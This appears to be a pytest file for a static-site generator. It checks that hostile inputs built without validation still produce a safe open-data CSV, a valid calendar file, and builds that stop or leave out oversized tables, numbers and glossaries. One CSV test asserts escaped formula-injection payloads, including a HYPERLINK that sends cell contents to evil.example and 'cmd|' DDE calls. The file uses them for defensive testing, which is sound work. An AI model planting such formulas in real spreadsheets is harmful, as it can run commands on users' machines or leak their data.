"""The other-programs and bounds classes of the hostile corpus, built with the validator off: the
files for other programs are written by their format's rules, and what the validator bounds stops
the build too (or is left out of it), without a traceback."""

from __future__ import annotations

import csv
import io

import icalendar
import pytest

from cittamedie.markup.formulas import FORMULA_LEADS

from ..unit.test_hostile_corpus import corpus
from .test_hostile_build import build_site, inputs_named, site_files, tree_with


def _names(cls: str, prefix: str = "") -> list[str]:
    return [item["name"] for c, item in corpus() if c == cls and item["name"].startswith(prefix)]


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    """The valid tree with every formula lead of other-programs.yml at once (different fields)."""
    items = inputs_named(*_names("other-programs", "csv-"))
    tree, _ = tree_with(tmp_path_factory.mktemp("formulas"), items)
    result = build_site(tree, validation=False)
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.returncode == 0, result.stderr[-3000:]
    return tree / "site"


def test_no_cell_of_the_open_data_csv_starts_a_formula(formula_site):
    text = (formula_site / "buone-pratiche" / "buone-pratiche.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2  # the header and the case: the attacks did not split the row
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["funding"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Fonte")'
    assert cells["targets"] == "'+cmd| /C calc!A0"
    assert cells["axis"] == "'@SUM(1+9)*cmd|x"
    assert cells["action"] == "'＝1+1"
    for name, value in cells.items():
        assert value.lstrip(" ")[:1] not in FORMULA_LEADS, f"{name}: {value!r}"
    assert "\r\n" in text and all(line.count('"') % 2 == 0 for line in text.split("\r\n"))


def test_the_calendar_of_a_hostile_build_is_valid_icalendar(formula_site):
    data = (formula_site / "calendario.ics").read_bytes()
    lines = data.split(b"\r\n")
    assert lines[-1] == b"" and all(b"\r" not in ln and b"\n" not in ln for ln in lines)
    assert max(map(len, lines)) <= 75
    assert len(icalendar.Calendar.from_ical(data).walk("VEVENT")) == 1


def test_pages_where_the_build_writes_stop_every_build(tmp_path):
    items = inputs_named(*_names("bounds", "page-at-"))
    tree, _ = tree_with(tmp_path, items)
    result = build_site(tree, validation=False)
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.returncode != 0
    for item in items:
        assert item["messages"][0].strip('"') in result.stderr, item["name"]


@pytest.mark.parametrize(
    "name",
    [
        "table-of-merged-cells",
        "table-of-merged-cells-in-markdown-attributes",
        "markdown-table-of-1500-rows",
        "markdown-table-of-3000-columns",
    ],
)
def test_a_table_past_the_grid_limit_stops_the_build(name, tmp_path):
    (item,) = inputs_named(name)
    tree, _ = tree_with(tmp_path, [item])
    result = build_site(tree, validation=False)
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.returncode != 0
    # the build names the same file, line and rule as the validator
    assert item["messages"][0].split(" cells")[0] in result.stderr, result.stderr[-3000:]


def test_numbers_past_their_bounds_are_left_out_of_the_built_site(tmp_path):
    items = inputs_named(
        "budget-of-400-digits", "priority-budget-of-400-digits", "period-start-of-300-digits"
    )
    tree, _ = tree_with(tmp_path, items)
    result = build_site(tree, validation=False)
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.returncode == 0, result.stderr[-3000:]
    huge = [p for p in site_files(tree / "site") if b"9" * 100 in p.read_bytes()]
    assert not huge


def test_a_glossary_past_its_length_is_left_out_of_the_build(tmp_path):
    """The data file the schema refuses is not read at all: no page matches 5,000 acronyms."""
    tree, _ = tree_with(tmp_path, inputs_named("glossary-of-5000-terms"))
    result = build_site(tree, validation=False)
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.returncode == 0, result.stderr[-3000:]
    pages = [p for p in site_files(tree / "site") if p.suffix == ".html"]
    assert pages and not any(b"XYZ" in p.read_bytes() for p in pages)
